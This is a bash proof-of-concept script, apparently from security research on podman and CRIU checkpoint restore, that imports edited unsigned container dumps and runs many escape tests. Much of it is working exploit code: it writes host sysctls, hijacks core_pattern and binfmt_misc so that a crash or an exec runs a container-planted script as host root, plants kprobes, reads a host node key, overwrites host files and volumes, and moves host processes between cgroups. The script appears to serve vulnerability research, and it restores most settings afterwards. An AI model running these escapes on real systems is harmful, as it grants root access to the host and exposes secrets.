#!/bin/bash
# attack30g: unsigned dumps with edited CRIU mount images through podman's own `podman container restore --import`.
# Usage: run.sh MODE... ; the trust policy is whatever the caller set (nosig.sh sets restore:any and puts it back).
set -u
D=/var/tmp/attack30g; H=$(dirname "$(readlink -f "$0")"); P=/usr/lib/gpuckpt/venv/bin/python3
SRC=${SRC:-src.tar.zst}; cd $D
for mode in "$@"; do
  echo "=== $mode ($(date -u +%T))"
  rm -f $D/binfmt-ran $D/core-ran $D/disk-write
  if [ $mode = cgprop ] && [ -z "${PROOF_ONLY:-}" ]; then
    printf 'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\n' > $D/victim; chmod 600 $D/victim
    echo "host victim before: $(ls -la $D/victim | cut -d' ' -f1,3,4) content: $(cat $D/victim)"
  fi
  if [[ $mode == cgprocs* ]] && [ -z "${PROOF_ONLY:-}" ]; then  # a host process of root's, outside any container
    sleep 600 & export VICTIM_PID=$!; disown
    echo "host victim process $VICTIM_PID: $(grep -E 'freezer|pids' /proc/$VICTIM_PID/cgroup | tr '\n' ' ') $(grep State /proc/$VICTIM_PID/status)"
  fi
  if [ -z "${PROOF_ONLY:-}" ]; then  # import.sh restored it already
    $P $H/edit.py $SRC $mode.tar.zst $mode >/dev/null || { echo "edit failed"; continue; }
    podman rm -f -t 0 attack30g-src >/dev/null 2>&1
    timeout 200 podman container restore --import $mode.tar.zst 2>&1 | tail -2 | cut -c1-700; echo "restore rc=${PIPESTATUS[0]}"
  fi
  case $mode in
    nosig) podman exec attack30g-src sh -c 'cat /tmp/count; grep " /proc/sys " /proc/self/mountinfo' 2>&1; echo "exec rc=$?";;
    procsys*|procmnt|selfproc|dupro|reparent*|sbro|nestns|dotpath)
      PS=/proc/sys; case $mode in procmnt|selfproc) PS=/mnt/sys;; esac
      before=$(cat /proc/sys/kernel/printk_ratelimit)
      podman exec attack30g-src sh -c 'grep " /proc/sys \| /mnt " /proc/self/mountinfo; echo 7 > '$PS'/kernel/printk_ratelimit' 2>&1; echo "exec rc=$?"
      now=$(cat /proc/sys/kernel/printk_ratelimit); echo "host kernel.printk_ratelimit: before $before, now $now"
      [ "$now" = 7 ] && echo "HOST KERNEL STATE written from the container"
      echo $before > /proc/sys/kernel/printk_ratelimit
      # the same write, to core_pattern: a pipe to a program in the container's upper layer (its host path is in
      # the container's own mountinfo), then a crash in the container runs it as host root
      cp_before=$(cat /proc/sys/kernel/core_pattern)
      podman exec attack30g-src sh -c '
        up=$(sed -n "s/.* overlay overlay .*upperdir=\([^,]*\),.*/\1/p" /proc/self/mountinfo | head -1)
        printf "#!/bin/sh\n{ id; readlink /proc/self/ns/mnt; } > /var/tmp/attack30g/core-ran\n" > /attack30g-core; chmod 755 /attack30g-core
        echo "|$up/attack30g-core" > '$PS'/kernel/core_pattern; ulimit -c unlimited; sh -c "kill -SEGV \$\$"; true' 2>&1
      sleep 1; echo "host core_pattern was: $(cat /proc/sys/kernel/core_pattern)"
      echo "$cp_before" > /proc/sys/kernel/core_pattern; echo "host core_pattern put back: $(cat /proc/sys/kernel/core_pattern)"
      [ -e $D/core-ran ] && echo "HOST ROOT via core_pattern: $(tr '\n' ' ' < $D/core-ran) (this shell's mnt ns: $(readlink /proc/self/ns/mnt))" || echo "core handler did not run";;
    binfmt*)  # the container registers a handler itself through its rw binfmt_misc mount (the host's instance)
      podman exec attack30g-src sh -c '
        grep " /mnt " /proc/self/mountinfo; ls /mnt
        up=$(sed -n "s/.* overlay overlay .*upperdir=\([^,]*\),.*/\1/p" /proc/self/mountinfo | head -1)
        printf "#!/bin/sh\n{ echo \"HOST ROOT via binfmt_misc: \$(id) file=\$1\"; readlink /proc/self/ns/mnt; } > /var/tmp/attack30g/binfmt-ran\n" > /attack30g-interp; chmod 755 /attack30g-interp
        [ -e /mnt/attack30g ] || echo ":attack30g:E::attack30g::$up/attack30g-interp:" > /mnt/register; echo "register from the container rc=$?"' 2>&1
      mkdir -p $D/bm; mount -t binfmt_misc binfmt_misc $D/bm 2>&1
      echo "host binfmt_misc entry: $(tr '\n' ' ' < $D/bm/attack30g 2>&1)"
      printf 'x\n' > $D/trigger.attack30g; chmod 755 $D/trigger.attack30g
      $D/trigger.attack30g; echo "host exec of trigger.attack30g rc=$?"
      [ -e $D/binfmt-ran ] && echo "$(tr '\n' ' ' < $D/binfmt-ran) (this shell's mnt ns: $(readlink /proc/self/ns/mnt))" || echo "interpreter did not run"
      [ -e $D/bm/attack30g ] && echo -1 > $D/bm/attack30g && echo "entry removed"
      umount $D/bm; rmdir $D/bm;;
    sysrw|sbrosys)
      f=/sys/module/printk/parameters/always_kmsg_dump; before=$(cat $f); want=$([ $before = Y ] && echo N || echo Y)
      podman exec attack30g-src sh -c "grep ' /sys ' /proc/self/mountinfo; echo $want > $f" 2>&1; echo "exec rc=$?"
      now=$(cat $f); echo "host $f: before $before, now $now"; [ "$now" = $want ] && echo "HOST KERNEL STATE written from the container"
      echo $before > $f;;
    autoext4|overlayhost|specbind|sysadmin|selfdd*)
      podman exec attack30g-src sh -c 'grep " /mnt " /proc/self/mountinfo; ls /mnt | head -30 | tr "\n" " "; echo; head -c 60 /mnt/etc/gpuckpt/node.key | od -c | head -2; echo attack30g-from-container > /mnt/var/tmp/attack30g/disk-write' 2>&1; echo "exec rc=$?"
      [ -e $D/disk-write ] && echo "HOST FILE written from the container: $(ls -la $D/disk-write)";;
    cgprop)
      echo "host victim after: $(ls -la $D/victim | cut -d' ' -f1,3,4) content: $(cat $D/victim)"
      grep -q attack30g-written-by-criu $D/victim && echo "HOST FILE written and chmod'ed by CRIU from the image";;
    tracefs)
      podman exec attack30g-src sh -c "grep ' /mnt ' /proc/self/mountinfo; echo attack30g-marker-$$ > /mnt/trace_marker; echo 'p:attack30g_probe do_sys_openat2' >> /mnt/kprobe_events" 2>&1; echo "exec rc=$?"
      mkdir -p $D/tr; mount -t tracefs tracefs $D/tr
      echo "host kprobe_events: $(cat $D/tr/kprobe_events)"; grep -m1 "attack30g-marker-$$" $D/tr/trace && echo "HOST KERNEL STATE (trace buffer, kprobe) written from the container"
      echo '-:attack30g_probe' >> $D/tr/kprobe_events 2>/dev/null; echo "kprobe removed: [$(cat $D/tr/kprobe_events)]"; umount $D/tr; rmdir $D/tr;;
    debugfs)
      mkdir -p $D/dbg; mount -t debugfs debugfs $D/dbg; f=$D/dbg/fault_around_bytes; before=$(cat $f)
      podman exec attack30g-src sh -c 'grep " /mnt " /proc/self/mountinfo; echo 8192 > /mnt/fault_around_bytes' 2>&1; echo "exec rc=$?"
      now=$(cat $f); echo "host debugfs fault_around_bytes: before $before, now $now"; [ "$now" = 8192 ] && [ "$before" != 8192 ] && echo "HOST KERNEL STATE written from the container"
      echo $before > $f; echo "put back: $(cat $f)"; umount $D/dbg; rmdir $D/dbg;;
    sbrocg|cgmnt)  # runc binds the pids hierarchy's /libpod_parent/conmon there (every container's conmon cgroup)
      f=/sys/fs/cgroup/pids/libpod_parent/conmon/pids.max; before=$(cat $f); in=/sys/fs/cgroup/pids/pids.max; [ $mode = cgmnt ] && in=/mnt/pids.max
      podman exec attack30g-src sh -c "grep -E ' /sys/fs/cgroup/(pids|freezer) | /mnt ' /proc/self/mountinfo; echo 4096 > $in; cat /sys/fs/cgroup/freezer/freezer.state" 2>&1; echo "exec rc=$?"
      now=$(cat $f); echo "host $f: before $before, now $now"; [ "$now" = 4096 ] && echo "HOST CGROUP (conmon's, shared by the node's containers) written from the container"
      echo $before > $f; echo "put back: $(cat $f)";;
    nsnet|nsmnt|nsuts|nsipc|nspid|nsuser) podman exec attack30g-src sh -c 'cat /proc/net/dev | cut -c1-12 | tr "\n" " "; echo; for n in net mnt uts ipc pid user; do echo "$n $(readlink /proc/self/ns/$n)"; done; ls / | tr "\n" " "; hostname; ls /etc/gpuckpt 2>&1' 2>&1; echo "exec rc=$?"
      for n in net mnt uts ipc pid user; do echo "host $n $(readlink /proc/self/ns/$n)"; done;;
    hook) ls -la /var/tmp/attack30g/hook-ran 2>&1 && cat /var/tmp/attack30g/hook-ran && echo "HOOK RAN ON THE HOST"; rm -f /var/tmp/attack30g/hook-ran;;
    mntdumper) podman exec attack30g-src sh -c 'readlink /proc/self/ns/mnt; grep -E " / | /mnt " /proc/self/mountinfo | head -3; ls / | tr "\n" " "; ls /etc/gpuckpt 2>&1' 2>&1; echo "exec rc=$?"; echo "host mnt ns: $(readlink /proc/self/ns/mnt)";;
    cgdev|devrule|devlist)
      podman exec attack30g-src sh -c 'grep devices /proc/self/cgroup; ls -la /dev/attack30g-vda; echo "ext4 magic at 1080 of /dev/attack30g-vda: $(head -c 1082 /dev/attack30g-vda | tail -c 2 | od -An -tx1)"; exec 3<>/dev/attack30g-vda && echo "opened /dev/attack30g-vda read-write"' 2>&1; echo "exec rc=$?";;
    cgprocs*)
      echo "host victim process $VICTIM_PID after: $(grep -E 'freezer|pids' /proc/$VICTIM_PID/cgroup | tr '\n' ' ') $(grep State /proc/$VICTIM_PID/status)"
      for c in freezer pids; do g=/sys/fs/cgroup/$c/attack30g; [ -d $g ] || continue
        echo "host $g: procs [$(cat $g/cgroup.procs | tr '\n' ' ')] $(cat $g/freezer.state 2>/dev/null)"
        [ -e $g/freezer.state ] && echo THAWED > $g/freezer.state
        echo $VICTIM_PID > /sys/fs/cgroup/$c/cgroup.procs; rmdir $g && echo "removed $g"; done
      kill $VICTIM_PID;;
    extroot) podman exec attack30g-src sh -c 'grep " /dev/shm " /proc/self/mountinfo; ls /dev/shm | head | tr "\n" " "' 2>&1; echo "exec rc=$?";;
    selfvol) podman exec attack30g-src sh -c "grep \" /mnt \" /proc/self/mountinfo; cat /mnt/secret; echo tampered > /mnt/secret" 2>&1; echo "exec rc=$?; victim volume now: $(cat /var/lib/containers/storage/volumes/attack30g-victimvol/_data/secret)";;
    *) podman exec attack30g-src sh -c 'grep " /mnt " /proc/self/mountinfo; ls /mnt | head -40 | tr "\n" " "' 2>&1; echo "exec rc=$?";;
  esac
  podman rm -f -t 0 attack30g-src >/dev/null 2>&1
done
